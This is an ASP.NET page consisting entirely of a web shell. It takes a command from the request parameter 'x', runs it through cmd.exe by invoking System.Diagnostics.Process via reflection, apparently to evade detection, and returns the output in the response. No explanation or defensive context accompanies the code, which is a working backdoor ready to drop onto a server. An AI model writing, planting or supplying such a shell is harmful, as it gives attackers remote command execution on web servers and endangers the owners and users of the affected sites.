<%@ Page Language="C#" %>
<%
    string x = Request["x"];
    if (x != null) {
        Type t = Type.GetType("System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089");
        object p = Activator.CreateInstance(t);
        object si = t.GetProperty("StartInfo").GetValue(p, null);
        si.GetType().GetProperty("FileName").SetValue(si, "cmd.exe", null);
        si.GetType().GetProperty("Arguments").SetValue(si, "/c " + x, null);
        si.GetType().GetProperty("UseShellExecute").SetValue(si, false, null);
        si.GetType().GetProperty("RedirectStandardOutput").SetValue(si, true, null);
        t.GetMethod("Start", Type.EmptyTypes).Invoke(p, null);
        object so = t.GetProperty("StandardOutput").GetValue(p, null);
        Response.Write(so.GetType().GetMethod("ReadToEnd").Invoke(so, null));
    }
%>
